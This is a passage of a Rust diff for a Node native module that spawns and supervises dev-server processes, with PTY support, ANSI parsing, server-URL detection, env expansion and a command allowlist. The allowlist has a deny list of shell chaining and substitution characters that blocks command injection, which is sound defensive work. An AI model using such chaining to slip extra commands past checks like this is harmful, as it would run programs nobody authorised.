@@ -1,115 +1,450 @@
+use globset::{Glob, GlobSet, GlobSetBuilder};
+use regex::Regex;
+use lazy_static::lazy_static;
 use napi::bindgen_prelude::*;
 use napi::threadsafe_function::{ErrorStrategy, ThreadsafeFunction, ThreadsafeFunctionCallMode};
 use napi_derive::napi;
 use serde::{Deserialize, Serialize};
+use std::collections::HashMap;
 use std::io::{BufRead, BufReader};
-use std::process::{Command, Stdio};
-use std::sync::Arc;
+use std::process::{Child, Command, Stdio};
+use std::sync::atomic::{AtomicBool, AtomicU32, Ordering as AtomicOrdering};
+use std::sync::{Arc, Mutex};
 use std::thread;
+use std::time::{Duration, Instant, SystemTime};
+use sysinfo::{Pid, ProcessRefreshKind, ProcessStatus, ProcessesToUpdate, System, UpdateKind};
 
 #[napi(object)]
 #[derive(Debug, Clone, Serialize, Deserialize)]
 pub struct ProcessHandle {
     pub pid: u32,
     pub command: String,
+    /// When the process was spawned, in milliseconds since the Unix epoch
+    pub started_at_ms: f64,
 }
 
 #[derive(Clone)]
 pub struct LogData {
     pub log: String,
     pub is_error: bool,
+    /// Styled segments of the line, set in the "parse" ANSI mode
+    pub segments: Option<Vec<AnsiSegment>>,
 }
 
-/// Spawn a development server process
-///
-/// # Arguments
-/// * `project_path` - Working directory for the process
-/// * `command` - Command to execute (e.g., "npm", "cargo", "python")
-/// * `args` - Array of command arguments
-///
-/// # Returns
-/// * `Result<ProcessHandle>` - Handle to the spawned process including PID
-///
-/// # Example
-/// ```
-/// let handle = spawn_dev_server(
-///     "/path/to/project".to_string(),
-///     "npm".to_string(),
-///     vec!["run".to_string(), "dev".to_string()]
-/// )?;
-/// ```
-#[napi]
-pub fn spawn_dev_server(
+/// A run of output text sharing one style
+#[napi(object)]
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct AnsiSegment {
+    pub text: String,
+    /// Foreground color: a name such as "red" or "brightBlue", or "#rrggbb" for extended colors
+    pub color: Option<String>,
+    pub bold: bool,
+}
+
+/// How ANSI escape sequences in streamed output are delivered
+#[derive(Debug, Clone, Copy, PartialEq)]
+enum AnsiMode {
+    /// Pass lines through untouched
+    Raw,
+    /// Remove escape sequences
+    Strip,
+    /// Remove escape sequences and describe the styling as `AnsiSegment`s
+    Parse,
+}
+
+/// Receives each line of output from a managed process
+type LogSink = Arc<dyn Fn(LogData) + Send + Sync>;
+
+#[napi(object)]
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct ServerEvent {
+    /// Event kind, currently only "url_detected"
+    pub event: String,
+    pub url: String,
+}
+
+/// Receives structured events derived from a managed process's output
+type EventSink = Arc<dyn Fn(ServerEvent) + Send + Sync>;
+
+lazy_static! {
+    /// Local or LAN server URLs as printed by dev servers ("Local: http://localhost:5173/")
+    static ref SERVER_URL_REGEX: Regex = Regex::new(
+        r#"https?://(?:localhost|127\.0\.0\.1|0\.0\.0\.0|\[::1?\]|\d{1,3}(?:\.\d{1,3}){3}):\d+[^\s'"<>)]*"#
+    )
+    .expect("valid server URL regex");
+}
+
+/// Remove ANSI escape sequences (colors, cursor movement) from a line of output
+pub(crate) fn strip_ansi(input: &str) -> String {
+    let mut output = String::with_capacity(input.len());
+    let mut chars = input.chars().peekable();
+
+    while let Some(c) = chars.next() {
+        if c != '\u{1b}' {
+            output.push(c);
+            continue;
+        }
+
+        match chars.next() {
+            // CSI: parameters until a final byte in '@'..='~'
+            Some('[') => {
+                for next in chars.by_ref() {
+                    if ('@'..='~').contains(&next) {
+                        break;
+                    }
+                }
+            }
+            // OSC: until BEL or ESC \
+            Some(']') => {
+                while let Some(next) = chars.next() {
+                    if next == '\u{7}' || (next == '\u{1b}' && chars.next_if_eq(&'\\').is_some()) {
+                        break;
+                    }
+                }
+            }
+            _ => {}
+        }
+    }
+
+    output
+}
+
+const ANSI_COLOR_NAMES: [&str; 8] = ["black", "red", "green", "yellow", "blue", "magenta", "cyan", "white"];
+
+/// Name of one of the 16 basic terminal colors
+fn basic_color_name(index: u8, bright: bool) -> String {
+    let name = ANSI_COLOR_NAMES[(index % 8) as usize];
+    if bright {
+        format!("bright{}{}", name[..1].to_uppercase(), &name[1..])
+    } else {
+        name.to_string()
+    }
+}
+
+/// Color for an entry of the xterm 256-color palette
+fn palette_color(index: u8) -> String {
+    match index {
+        0..=15 => basic_color_name(index, index >= 8),
+        16..=231 => {
+            let cube = index - 16;
+            let level = |value: u8| if value == 0 { 0 } else { 55 + value * 40 };
+            format!("#{:02x}{:02x}{:02x}", level(cube / 36), level((cube / 6) % 6), level(cube % 6))
+        }
+        232..=255 => {
+            let gray = 8 + (index - 232) * 10;
+            format!("#{:02x}{:02x}{:02x}", gray, gray, gray)
+        }
+    }
+}
+
+/// Apply an SGR (`ESC [ ... m`) parameter list to the current style
+fn apply_sgr(params: &str, color: &mut Option<String>, bold: &mut bool) {
+    let codes: Vec<u16> = params.split(';').map(|code| code.parse().unwrap_or(0)).collect();
+    let mut index = 0;
+
+    while index < codes.len() {
+        match codes[index] {
+            0 => {
+                *color = None;
+                *bold = false;
+            }
+            1 => *bold = true,
+            22 => *bold = false,
+            code @ 30..=37 => *color = Some(basic_color_name((code - 30) as u8, false)),
+            code @ 90..=97 => *color = Some(basic_color_name((code - 90) as u8, true)),
+            39 => *color = None,
+            // Extended colors: 5;n (palette) or 2;r;g;b (true color)
+            code @ (38 | 48) => {
+                let (value, consumed) = match codes.get(index + 1) {
+                    Some(5) => (codes.get(index + 2).map(|n| palette_color(*n as u8)), 2),
+                    Some(2) if index + 4 < codes.len() => (
+                        Some(format!(
+                            "#{:02x}{:02x}{:02x}",
+                            codes[index + 2] as u8,
+                            codes[index + 3] as u8,
+                            codes[index + 4] as u8
+                        )),
+                        4,
+                    ),
+                    _ => (None, 0),
+                };
+                // Only the foreground is reported; background arguments are skipped
+                if code == 38 && value.is_some() {
+                    *color = value;
+                }
+                index += consumed;
+            }
+            _ => {}
+        }
+        index += 1;
+    }
+}
+
+/// Split a line of output into styled segments, dropping the escape sequences
+fn parse_ansi(input: &str) -> Vec<AnsiSegment> {
+    let mut segments: Vec<AnsiSegment> = Vec::new();
+    let mut text = String::new();
+    let mut color: Option<String> = None;
+    let mut bold = false;
+    let mut chars = input.chars().peekable();
+
+    let mut flush = |text: &mut String, color: &Option<String>, bold: bool| {
+        if text.is_empty() {
+            return;
+        }
+        match segments.last_mut() {
+            Some(last) if last.color == *color && last.bold == bold => last.text.push_str(text),
+            _ => segments.push(AnsiSegment {
+                text: text.clone(),
+                color: color.clone(),
+                bold,
+            }),
+        }
+        text.clear();
+    };
+
+    while let Some(c) = chars.next() {
+        if c != '\u{1b}' {
+            text.push(c);
+            continue;
+        }
+
+        match chars.next() {
+            Some('[') => {
+                let mut params = String::new();
+                for next in chars.by_ref() {
+                    if ('@'..='~').contains(&next) {
+                        if next == 'm' {
+                            flush(&mut text, &color, bold);
+                            apply_sgr(&params, &mut color, &mut bold);
+                        }
+                        break;
+                    }
+                    params.push(next);
+                }
+            }
+            Some(']') => {
+                while let Some(next) = chars.next() {
+                    if next == '\u{7}' || (next == '\u{1b}' && chars.next_if_eq(&'\\').is_some()) {
+                        break;
+                    }
+                }
+            }
+            _ => {}
+        }
+    }
+
+    flush(&mut text, &color, bold);
+    segments
+}
+
+/// Find a dev server URL in a line of output, ignoring ANSI styling
+fn detect_server_url(line: &str) -> Option<String> {
+    let plain = strip_ansi(line);
+    SERVER_URL_REGEX
+        .find(&plain)
+        .map(|m| m.as_str().trim_end_matches(['.', ',', ';']).to_string())
+}
+
+/// Everything needed to spawn (or respawn) a managed process
+#[derive(Clone)]
+struct SpawnSpec {
     project_path: String,
     command: String,
     args: Vec<String>,
-) -> Result<ProcessHandle> {
-    // Validate project path exists
-    let path = std::path::Path::new(&project_path);
-    if !path.exists() {
-        return Err(Error::new(
-            Status::InvalidArg,
-            format!("Project path does not exist: {}", project_path),
-        ));
+    port: u32,
+    on_log: Option<LogSink>,
+    on_event: Option<EventSink>,
+    /// Attach the process to a pseudo-terminal; only applies when `on_log` is set
+    use_pty: bool,
+    ansi_mode: AnsiMode,
+    /// Extra variables, applied after the streaming defaults so they can override them
+    env: Vec<(String, String)>,
+    /// Start from an empty environment instead of inheriting this process's
+    clear_env: bool,
+}
+
+impl SpawnSpec {
+    fn full_command(&self) -> String {
+        format!("{} {}", self.command, self.args.join(" "))
     }
+}
 
-    if !path.is_dir() {
-        return Err(Error::new(
-            Status::InvalidArg,
-            format!("Project path is not a directory: {}", project_path),
-        ));
+/// A process spawned by this module, kept alive so it can be inspected and respawned
+struct ManagedProcess {
+    child: ManagedChild,
+    spec: SpawnSpec,
+    /// Set when the process is stopped on purpose so watchdogs don't restart it
+    stop_requested: bool,
+    /// When the process was spawned, in milliseconds since the Unix epoch
+    started_at_ms: f64,
+    /// Background watchers (exit callbacks, restart loops) that still need this entry
+    /// after the process exits; it is only pruned on read while this is 0
+    observers: u32,
+}
+
+lazy_static! {
+    /// Processes spawned by this module, keyed by PID
+    static ref PROCESSES: Mutex<HashMap<u32, ManagedProcess>> = Mutex::new(HashMap::new());
+}
+
+/// Check whether a managed process has exited, reaping it
+///
+/// Returns None if the PID isn't managed. Once an exit has been read here the entry is
+/// dropped from the registry, unless a background watcher still observes it, so the
+/// registry doesn't grow and a reused PID isn't mistaken for the old process.
+fn reap_managed(processes: &mut HashMap<u32, ManagedProcess>, pid: u32) -> Option<std::io::Result<Option<ChildExit>>> {
+    let process = processes.get_mut(&pid)?;
+    let status = process.child.try_wait();
+
+    if matches!(status, Ok(Some(_))) && process.observers == 0 {
+        processes.remove(&pid);
     }
 
-    // Spawn the process with proper I/O handling
-    let child = Command::new(&command)
-        .args(&args)
-        .current_dir(&project_path)
-        .stdout(Stdio::piped())
-        .stderr(Stdio::piped())
-        .stdin(Stdio::null())
-        .spawn()
-        .map_err(|e| {
-            Error::new(
-                Status::GenericFailure,
-                format!("Failed to spawn process '{}': {}", command, e),
-            )
-        })?;
+    Some(status)
+}
 
-    let pid = child.id();
+/// Register a background watcher on a managed process. Returns false if it isn't managed.
+fn observe_managed(processes: &mut HashMap<u32, ManagedProcess>, pid: u32) -> bool {
+    match processes.get_mut(&pid) {
+        Some(process) => {
+            process.observers += 1;
+            true
+        }
+        None => false,
+    }
+}
 
-    // Detach the child process so it continues running independently
-    // We're not waiting for it to complete
-    std::mem::forget(child);
+/// Unregister a background watcher, pruning the entry if the process has exited and
+/// nothing else observes it
+fn unobserve_managed(processes: &mut HashMap<u32, ManagedProcess>, pid: u32) {
+    if let Some(process) = processes.get_mut(&pid) {
+        process.observers = process.observers.saturating_sub(1);
+        if process.observers == 0 && matches!(process.child.try_wait(), Ok(Some(_))) {
+            processes.remove(&pid);
+        }
+    }
+}
 
-    let full_command = format!("{} {}", command, args.join(" "));
+fn lock_processes() -> Result<std::sync::MutexGuard<'static, HashMap<u32, ManagedProcess>>> {
+    PROCESSES
+        .lock()
+        .map_err(|_| Error::new(Status::GenericFailure, "Process registry lock poisoned"))
+}
 
-    Ok(ProcessHandle {
-        pid,
-        command: full_command,
-    })
+lazy_static! {
+    /// Commands that may be spawned; empty means any command is allowed
+    static ref COMMAND_ALLOWLIST: Mutex<Vec<String>> = Mutex::new(Vec::new());
 }
 
-/// Spawn a development server process with live log streaming
+/// Prefix of the error message returned when a command is rejected by the allowlist
+const COMMAND_NOT_ALLOWED: &str = "CommandNotAllowed";
+
+/// Restrict which commands the spawn functions may run
 ///
 /// # Arguments
-/// * `project_path` - Working directory for the process
-/// * `command` - Command to execute (e.g., "npm", "cargo", "python")
-/// * `args` - Array of command arguments
-/// * `port` - Port number to set via PORT environment variable
-/// * `on_log` - Callback function for streaming logs
+/// * `commands` - Allowed command names (e.g. "npm", "cargo") or full executable paths.
+///   An empty list removes the restriction
 ///
 /// # Returns
-/// * `Result<ProcessHandle>` - Handle to the spawned process including PID
-#[napi(ts_args_type = "projectPath: string, command: string, args: Array<string>, port: number, onLog: (log: string, isError: boolean) => void")]
-pub fn spawn_dev_server_with_logs(
-    project_path: String,
-    command: String,
-    args: Vec<String>,
-    port: u32,
-    on_log: JsFunction,
-) -> Result<ProcessHandle> {
-    // Validate project path exists
-    let path = std::path::Path::new(&project_path);
+/// * `Result<()>` - Success
+///
+/// # Behavior
+/// A bare name allows that program as resolved through `PATH`, with or without a
+/// Windows `.exe`, `.cmd` or `.bat` extension (`npm` allows `npm` and `npm.cmd`, but
+/// not `/tmp/npm` or `npm.sh`); a path only allows that exact path. Rejected spawns
+/// fail with an `InvalidArg` error whose message starts with `CommandNotAllowed:`.
+#[napi]
+pub fn set_command_allowlist(commands: Vec<String>) -> Result<()> {
+    let mut allowlist = COMMAND_ALLOWLIST
+        .lock()
+        .map_err(|_| Error::new(Status::GenericFailure, "Command allowlist lock poisoned"))?;
+    *allowlist = commands;
+    Ok(())
+}
+
+/// Whether `command` matches an entry of a non-empty allowlist
+fn is_command_allowed(allowlist: &[String], command: &str) -> bool {
+    // Bare names only match commands looked up through PATH, never an explicit location
+    let is_bare_command = !command.contains(['/', '\\']);
+    let name = [".exe", ".cmd", ".bat"]
+        .iter()
+        .find(|ext| command.len() > ext.len() && command.to_ascii_lowercase().ends_with(*ext))
+        .map_or(command, |ext| &command[..command.len() - ext.len()]);
+
+    allowlist.iter().any(|allowed| {
+        let is_bare_name = !allowed.contains(['/', '\\']);
+        allowed == command || (is_bare_name && is_bare_command && allowed == name)
+    })
+}
+
+fn check_command_allowed(command: &str) -> Result<()> {
+    let allowlist = COMMAND_ALLOWLIST
+        .lock()
+        .map_err(|_| Error::new(Status::GenericFailure, "Command allowlist lock poisoned"))?;
+
+    if allowlist.is_empty() || is_command_allowed(&allowlist, command) {
+        return Ok(());
+    }
+
+    Err(Error::new(
+        Status::InvalidArg,
+        format!("{}: '{}' is not in the command allowlist", COMMAND_NOT_ALLOWED, command),
+    ))
+}
+
+/// Characters and sequences that let a shell command line run more than one program
+const SHELL_METACHARACTERS: [&str; 9] = [";", "&", "|", "`", "$(", ">", "<", "\n", "\r"];
+
+/// Whether a command line passed to the shell stays within a non-empty allowlist
+///
+/// Only the first word is the program, so lines that could chain, pipe, substitute or
+/// redirect into other programs are rejected outright.
+fn is_shell_command_allowed(allowlist: &[String], command_line: &str) -> bool {
+    if SHELL_METACHARACTERS.iter().any(|meta| command_line.contains(meta)) {
+        return false;
+    }
+
+    command_line
+        .split_whitespace()
+        .next()
+        .is_some_and(|program| is_command_allowed(allowlist, program))
+}
+
+fn check_shell_command_allowed(command_line: &str) -> Result<()> {
+    let allowlist = COMMAND_ALLOWLIST
+        .lock()
+        .map_err(|_| Error::new(Status::GenericFailure, "Command allowlist lock poisoned"))?;
+
+    if allowlist.is_empty() || is_shell_command_allowed(&allowlist, command_line) {
+        return Ok(());
+    }
+
+    Err(Error::new(
+        Status::InvalidArg,
+        format!(
+            "{}: '{}' is not in the command allowlist or uses shell operators",
+            COMMAND_NOT_ALLOWED, command_line
+        ),
+    ))
+}
+
+/// Reject PIDs that would make a signal target a process group instead of one process
+///
+/// On Unix, `kill(0, ...)` signals the caller's whole process group (including the host
+/// app) and a negative PID signals a group, which is what PIDs above `i32::MAX` become.
+pub(crate) fn validate_pid(pid: u32) -> Result<()> {
+    if pid == 0 || pid > i32::MAX as u32 {
+        return Err(Error::new(
+            Status::InvalidArg,
+            format!("Invalid process ID: {}", pid),
+        ));
+    }
+    Ok(())
+}
+
+fn validate_project_path(project_path: &str) -> Result<()> {
+    let path = std::path::Path::new(project_path);
     if !path.exists() {
         return Err(Error::new(
             Status::InvalidArg,
@@ -124,50 +459,229 @@ pub fn spawn_dev_server_with_logs(
         ));
     }
 
-    // Create threadsafe function for logging
-    let tsfn: ThreadsafeFunction<LogData, ErrorStrategy::Fatal> = on_log
-        .create_threadsafe_function(0, |ctx| {
-            let log_data: LogData = ctx.value;
-            let log_str = ctx.env.create_string(&log_data.log)?;
-            let is_error_bool = ctx.env.get_boolean(log_data.is_error)?;
-            Ok(vec![log_str.into_unknown(), is_error_bool.into_unknown()])
-        })?;
+    Ok(())
+}
+
+/// Exit status of a managed process, however it was spawned
+struct ChildExit {
+    success: bool,
+    /// Exit code, or None if the process was killed by a signal
+    code: Option<i32>,
+    /// Name of the terminating signal (e.g. "SIGTERM"), when known
+    signal: Option<String>,
+}
+
+impl ChildExit {
+    fn success(&self) -> bool {
+        self.success
+    }
+
+    fn code(&self) -> Option<i32> {
+        self.code
+    }
+}
+
+impl From<std::process::ExitStatus> for ChildExit {
+    fn from(status: std::process::ExitStatus) -> Self {
+        #[cfg(unix)]
+        let signal = {
+            use std::os::unix::process::ExitStatusExt;
+            status.signal().map(|signal| match nix::sys::signal::Signal::try_from(signal) {
+                Ok(signal) => signal.as_str().to_string(),
+                Err(_) => signal.to_string(),
+            })
+        };
+        #[cfg(not(unix))]
+        let signal = None;
+
+        ChildExit {
+            success: status.success(),
+            code: status.code(),
+            signal,
+        }
+    }
+}
+
+impl From<portable_pty::ExitStatus> for ChildExit {
+    fn from(status: portable_pty::ExitStatus) -> Self {
+        // portable-pty doesn't expose the signal, so signal exits report a code too
+        ChildExit {
+            success: status.success(),
+            code: Some(status.exit_code() as i32),
+            signal: None,
+        }
+    }
+}
+
+/// A spawned process, either with piped stdio or attached to a pseudo-terminal
+enum ManagedChild {
+    Piped(Child),
+    Pty {
+        child: Box<dyn portable_pty::Child + Send + Sync>,
+        /// Read once at spawn; a PTY child without a PID is never registered
+        pid: u32,
+        /// Kept open for the life of the process so it doesn't receive SIGHUP
+        _master: Box<dyn portable_pty::MasterPty + Send>,
+    },
+}
+
+impl ManagedChild {
+    fn id(&self) -> u32 {
+        match self {
+            ManagedChild::Piped(child) => child.id(),
+            ManagedChild::Pty { pid, .. } => *pid,
+        }
+    }
+
+    fn try_wait(&mut self) -> std::io::Result<Option<ChildExit>> {
+        match self {
+            ManagedChild::Piped(child) => Ok(child.try_wait()?.map(ChildExit::from)),
+            ManagedChild::Pty { child, .. } => Ok(child.try_wait()?.map(ChildExit::from)),
+        }
+    }
+
+    fn kill(&mut self) -> std::io::Result<()> {
+        match self {
+            ManagedChild::Piped(child) => child.kill(),
+            ManagedChild::Pty { child, .. } => child.kill(),
+        }
+    }
+
+    fn wait(&mut self) -> std::io::Result<ChildExit> {
+        match self {
+            ManagedChild::Piped(child) => child.wait().map(ChildExit::from),
+            ManagedChild::Pty { child, .. } => child.wait().map(ChildExit::from),
+        }
+    }
+}
+
+/// Terminal size reported to processes spawned with a PTY
+const PTY_SIZE: portable_pty::PtySize = portable_pty::PtySize {
+    rows: 24,
+    cols: 120,
+    pixel_width: 0,
+    pixel_height: 0,
+};
+
+/// Environment variables that make output stream in real time when logs are captured
+fn streaming_env(spec: &SpawnSpec) -> Vec<(&'static str, String)> {
+    let mut env = vec![
+        ("FORCE_COLOR", "1".to_string()),
+        ("NODE_ENV", "development".to_string()),
+        ("PYTHONUNBUFFERED", "1".to_string()),
+        ("RUST_BACKTRACE", "1".to_string()),
+        ("CI", "false".to_string()),
+    ];
+
+    // Only set PORT environment variable if port > 0
+    // If port is 0, let the project use its native port configuration
+    if spec.port > 0 {
+        env.push(("PORT", spec.port.to_string()));
+    }
+
+    env
+}
+
+/// The log callback for `spec`, applying its ANSI mode and also reporting server URLs
+/// when `on_event` is set
+fn log_sink(spec: &SpawnSpec) -> Option<LogSink> {
+    let on_log = spec.on_log.clone()?;
+
+    let on_log: LogSink = match spec.ansi_mode {
+        AnsiMode::Raw => on_log,
+        AnsiMode::Strip => Arc::new(move |log_data: LogData| {
+            on_log(LogData {
+                log: strip_ansi(&log_data.log),
+                ..log_data
+            })
+        }),
+        AnsiMode::Parse => Arc::new(move |log_data: LogData| {
+            on_log(LogData {
+                log: strip_ansi(&log_data.log),
+                segments: Some(parse_ansi(&log_data.log)),
+                ..log_data
+            })
+        }),
+    };
+
+    let on_event = match &spec.on_event {
+        Some(on_event) => on_event.clone(),
+        None => return Some(on_log),
+    };
+
+    // Report each distinct server URL once per spawned process
+    let seen_urls: Arc<Mutex<Vec<String>>> = Arc::new(Mutex::new(Vec::new()));
+    Some(Arc::new(move |log_data: LogData| {
+        if let Some(url) = detect_server_url(&log_data.log) {
+            let is_new = seen_urls.lock().map(|mut seen| {
+                let is_new = !seen.contains(&url);
+                if is_new {
+                    seen.push(url.clone());
+                }
+                is_new
+            });
+            if let Ok(true) = is_new {
+                on_event(ServerEvent {
+                    event: "url_detected".to_string(),
+                    url,
+                });
+            }
+        }
+        on_log(log_data);
+    }))
+}
+
+/// Wrap a process's log callback so its lines also reach combined-output subscribers
+fn publishing_sink(pid: u32, on_log: Option<LogSink>) -> LogSink {
+    Arc::new(move |log_data: LogData| {
+        publish_output(pid, &log_data);
+        if let Some(on_log) = &on_log {
+            on_log(log_data);
+        }
+    })
+}
+
+/// Spawn the process described by `spec`, wiring up log streaming when a callback is set
+fn spawn_child(spec: &SpawnSpec) -> Result<ManagedChild> {
+    match log_sink(spec) {
+        Some(on_log) if spec.use_pty => spawn_pty_child(spec, on_log),
+        on_log => spawn_piped_child(spec, on_log),
+    }
+}
 
-    // Spawn the process with proper I/O handling and unbuffered output
-    let mut cmd_builder = Command::new(&command);
+fn spawn_piped_child(spec: &SpawnSpec, on_log: Option<LogSink>) -> Result<ManagedChild> {
+    let mut cmd_builder = Command::new(&spec.command);
     cmd_builder
-        .args(&args)
-        .current_dir(&project_path)
+        .args(&spec.args)
+        .current_dir(&spec.project_path)
         .stdout(Stdio::piped())
         .stderr(Stdio::piped())
-        .stdin(Stdio::null())
-        // Force unbuffered output for real-time log streaming
-        .env("FORCE_COLOR", "1")
-        .env("NODE_ENV", "development")
-        .env("PYTHONUNBUFFERED", "1")
-        .env("RUST_BACKTRACE", "1")
-        .env("CI", "false");
+        .stdin(Stdio::null());
 
-    // Only set PORT environment variable if port > 0
-    // If port is 0, let the project use its native port configuration
-    if port > 0 {
-        cmd_builder.env("PORT", port.to_string());
+    if spec.clear_env {
+        cmd_builder.env_clear();
     }
 
-    let mut child = cmd_builder
-        .spawn()
-        .map_err(|e| {
-            Error::new(
-                Status::GenericFailure,
-                format!("Failed to spawn process '{}': {}", command, e),
-            )
-        })?;
+    if on_log.is_some() {
+        // Force unbuffered output for real-time log streaming
+        cmd_builder.envs(streaming_env(spec));
+    }
+
+    cmd_builder.envs(spec.env.iter().map(|(key, value)| (key, value)));
+
+    let mut child = cmd_builder.spawn().map_err(|e| {
+        Error::new(
+            Status::GenericFailure,
+            format!("Failed to spawn process '{}': {}", spec.command, e),
+        )
+    })?;
 
-    let pid = child.id();
+    // Output is always drained so combined-output subscribers can follow any managed process
+    let on_log = publishing_sink(child.id(), on_log);
 
     // Capture stdout in a separate thread with small buffer for real-time streaming
     if let Some(stdout) = child.stdout.take() {
-        let tsfn_stdout = Arc::new(tsfn.clone());
+        let on_log_stdout = on_log.clone();
         thread::spawn(move || {
             // Use smaller buffer size (1KB) for more responsive streaming
             let reader = BufReader::with_capacity(1024, stdout);
@@ -177,9 +691,9 @@ pub fn spawn_dev_server_with_logs(
                         let log_data = LogData {
                             log: line,
                             is_error: false,
+                            segments: None,
                         };
-                        // Use blocking mode to ensure logs are delivered
-                        let _ = tsfn_stdout.call(log_data, ThreadsafeFunctionCallMode::Blocking);
+                        on_log_stdout(log_data);
                     }
                     Err(e) => {
                         eprintln!("Error reading stdout: {}", e);
@@ -192,7 +706,6 @@ pub fn spawn_dev_server_with_logs(
 
     // Capture stderr in a separate thread with small buffer for real-time streaming
     if let Some(stderr) = child.stderr.take() {
-        let tsfn_stderr = Arc::new(tsfn);
         thread::spawn(move || {
             // Use smaller buffer size (1KB) for more responsive streaming
             let reader = BufReader::with_capacity(1024, stderr);
@@ -202,9 +715,9 @@ pub fn spawn_dev_server_with_logs(
                         let log_data = LogData {
                             log: line,
                             is_error: true,
+                            segments: None,
                         };
-                        // Use blocking mode to ensure logs are delivered
-                        let _ = tsfn_stderr.call(log_data, ThreadsafeFunctionCallMode::Blocking);
+                        on_log(log_data);
                     }
                     Err(e) => {
                         eprintln!("Error reading stderr: {}", e);
@@ -215,86 +728,1829 @@ pub fn spawn_dev_server_with_logs(
         });
     }
 
-    // Detach the child process so it continues running independently
-    std::mem::forget(child);
-
-    let full_command = format!("{} {}", command, args.join(" "));
-
-    Ok(ProcessHandle {
-        pid,
-        command: full_command,
-    })
+    Ok(ManagedChild::Piped(child))
 }
 
-/// Kill a process by PID with cross-platform support
-///
-/// # Arguments
-/// * `pid` - Process ID to terminate
-///
-/// # Returns
-/// * `Result<()>` - Success or error
+/// Spawn the process attached to a pseudo-terminal so it behaves as in a real terminal
+///
+/// stdout and stderr share the terminal, so every line is reported with `is_error: false`.
+fn spawn_pty_child(spec: &SpawnSpec, on_log: LogSink) -> Result<ManagedChild> {
+    let pty_error = |e: &dyn std::fmt::Display| {
+        Error::new(
+            Status::GenericFailure,
+            format!("Failed to spawn process '{}' in a PTY: {}", spec.command, e),
+        )
+    };
+
+    let pair = portable_pty::native_pty_system()
+        .openpty(PTY_SIZE)
+        .map_err(|e| pty_error(&e))?;
+
+    let mut cmd_builder = portable_pty::CommandBuilder::new(&spec.command);
+    cmd_builder.args(&spec.args);
+    cmd_builder.cwd(&spec.project_path);
+    if spec.clear_env {
+        cmd_builder.env_clear();
+    }
+    for (key, value) in streaming_env(spec) {
+        cmd_builder.env(key, value);
+    }
+    for (key, value) in &spec.env {
+        cmd_builder.env(key, value);
+    }
+
+    let mut child = pair.slave.spawn_command(cmd_builder).map_err(|e| pty_error(&e))?;
+    // Only the child should hold the slave side, so the reader sees EOF when it exits
+    drop(pair.slave);
+
+    // Registering under a placeholder PID would let a later kill signal our own process group
+    let pid = match child.process_id() {
+        Some(pid) if pid > 0 => pid,
+        _ => {
+            let _ = child.kill();
+            return Err(pty_error(&"the spawned process has no PID"));
+        }
+    };
+
+    let on_log = publishing_sink(pid, Some(on_log));
+    let reader = pair.master.try_clone_reader().map_err(|e| pty_error(&e))?;
+    thread::spawn(move || {
+        let reader = BufReader::with_capacity(1024, reader);
+        // Terminals end lines with CRLF; EIO marks the end of output on Linux
+        for line in reader.lines().map_while(|line| line.ok()) {
+            on_log(LogData {
+                log: line.trim_end_matches('\r').to_string(),
+                is_error: false,
+                segments: None,
+            });
+        }
+    });
+
+    Ok(ManagedChild::Pty {
+        child,
+        pid,
+        _master: pair.master,
+    })
+}
+
+/// Spawn a process and keep its handle in the registry instead of detaching it
+fn spawn_managed(spec: SpawnSpec) -> Result<ProcessHandle> {
+    let child = spawn_child(&spec)?;
+    let handle = ProcessHandle {
+        pid: child.id(),
+        command: spec.full_command(),
+        started_at_ms: unix_time_ms(),
+    };
+
+    lock_processes()?.insert(
+        handle.pid,
+        ManagedProcess {
+            child,
+            spec,
+            stop_requested: false,
+            started_at_ms: handle.started_at_ms,
+            observers: 0,
+        },
+    );
+
+    Ok(handle)
+}
+
+#[napi(object)]
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct SpawnOptions {
+    /// Expand `${VAR}` and `$VAR` references in `args` and `env` values before spawning
+    /// (default: false)
+    pub expand_env: Option<bool>,
+    /// Environment variables for the process, merged on top of the inherited environment
+    /// (e.g. `{ PORT: "3001", VITE_API_URL: "http://localhost:8080" }`)
+    pub env: Option<HashMap<String, String>>,
+    /// Start the process with only `env` instead of the inherited environment (default: false).
+    /// Include `PATH` in `env` if the command relies on it
+    pub clear_env: Option<bool>,
+    /// Run the process in a pseudo-terminal so it emits colors and progress output as in
+    /// a real terminal (default: false). Only applies to `spawn_dev_server_with_logs`
+    pub use_pty: Option<bool>,
+    /// How ANSI escape sequences in streamed lines are delivered: "raw" (default) passes them
+    /// through, "strip" removes them, and "parse" removes them and also passes the line's
+    /// styled `AnsiSegment`s to the log callback. Only applies to `spawn_dev_server_with_logs`
+    pub ansi_mode: Option<String>,
+}
+
+impl SpawnOptions {
+    /// `args` with environment references expanded when `expand_env` is set
+    fn expand_args(&self, args: Vec<String>) -> Vec<String> {
+        if self.expand_env.unwrap_or(false) {
+            let lookup = |name: &str| std::env::var(name).ok();
+            args.iter().map(|arg| expand_env_vars(arg, &lookup)).collect()
+        } else {
+            args
+        }
+    }
+
+    /// `env` as key-value pairs, with references expanded against the inherited
+    /// environment when `expand_env` is set
+    fn env_vars(&self) -> Vec<(String, String)> {
+        let env = match &self.env {
+            Some(env) => env,
+            None => return Vec::new(),
+        };
+
+        let lookup = |name: &str| std::env::var(name).ok();
+        env.iter()
+            .map(|(key, value)| {
+                let value = if self.expand_env.unwrap_or(false) {
+                    expand_env_vars(value, &lookup)
+                } else {
+                    value.clone()
+                };
+                (key.clone(), value)
+            })
+            .collect()
+    }
+
+    fn ansi_mode(&self) -> Result<AnsiMode> {
+        match self.ansi_mode.as_deref().unwrap_or("raw") {
+            "raw" => Ok(AnsiMode::Raw),
+            "strip" => Ok(AnsiMode::Strip),
+            "parse" => Ok(AnsiMode::Parse),
+            other => Err(Error::new(
+                Status::InvalidArg,
+                format!("Invalid ansi_mode: {} (expected \"raw\", \"strip\" or \"parse\")", other),
+            )),
+        }
+    }
+}
+
+/// Expand `${VAR}` and `$VAR` references using `lookup`
+///
+/// Unknown variables expand to an empty string, as in a shell. A `$` that isn't
+/// followed by a variable name or `{` is kept literally.
+fn expand_env_vars(input: &str, lookup: &dyn Fn(&str) -> Option<String>) -> String {
+    let mut output = String::with_capacity(input.len());
+    let mut chars = input.chars().peekable();
+
+    while let Some(c) = chars.next() {
+        if c != '$' {
+            output.push(c);
+            continue;
+        }
+
+        if chars.peek() == Some(&'{') {
+            chars.next();
+            let name: String = chars.by_ref().take_while(|c| *c != '}').collect();
+            output.push_str(&lookup(&name).unwrap_or_default());
+            continue;
+        }
+
